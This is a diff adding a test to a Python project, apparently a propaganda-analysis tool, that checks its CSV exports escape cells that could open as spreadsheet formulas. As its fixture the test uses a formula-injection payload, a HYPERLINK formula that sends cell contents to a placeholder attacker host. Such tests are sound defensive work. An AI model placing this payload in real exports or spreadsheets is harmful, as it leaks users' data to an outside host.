@@ -621,3 +621,32 @@ def test_ingest_refuses_carrier_grade_nat_urls(monkeypatch):
 
 def test_reader_checks_are_the_stores_checks():
     assert ingest.check_article(Article("a" * 513, "x")) and not ingest.check_article(Article("a" * 512, "x"))
+
+
+# -- CSV for spreadsheets ---------------------------------------------------------------------
+def test_csv_cells_never_open_as_spreadsheet_formulas(db_url):
+    """Hostile pages can hold '=HYPERLINK(...)' or '@SUM(...)': every CSV propscope writes (span
+    export, report, dashboard and search downloads) starts such a text cell with an apostrophe,
+    which spreadsheets show as text; numbers, negative ones too, stay numbers."""
+    from propscope import export, report
+    from propscope.document import Span
+    from propscope.web.views import to_csv
+
+    text = '=HYPERLINK("http://evil.example/?"&A1,"click") says the traitors lie.'
+    s = Store(db_url)
+    s.add_articles([Article("@cmd", text, outlet="+evil", published=None)])
+
+    class Marks:  # one span over the formula
+        name = "m"
+
+        def analyze_batch(self, items):
+            return [Analysis(a, [Span(0, 10, "Loaded_Language", 0.9, a.text[:10])], [Sentence(0, len(a.text), 0.9)],
+                             0.9, "m") for a in items]
+
+    analyze_store(s, Marks(), sources=False)
+    rows = list(__import__("csv").reader(io.StringIO("".join(export.export(s.iter_analyses(), "csv")))))
+    assert rows[1][:2] == ["'@cmd", "'+evil"] and rows[1][-1] == "'=HYPERLINK"
+    rep_csv = report.to_csv(report.build(s))
+    assert "outlet,'+evil," in rep_csv and "top_article,'@cmd," in rep_csv and "\n=" not in rep_csv and ",=" not in rep_csv
+    assert to_csv([{"title": "-2+3", "score": -0.5, "note": "\tx"}]).splitlines()[1] == "'-2+3,-0.5,'\tx"
+    assert export.spreadsheet_safe("plain") == "plain" and export.spreadsheet_safe(-1) == -1
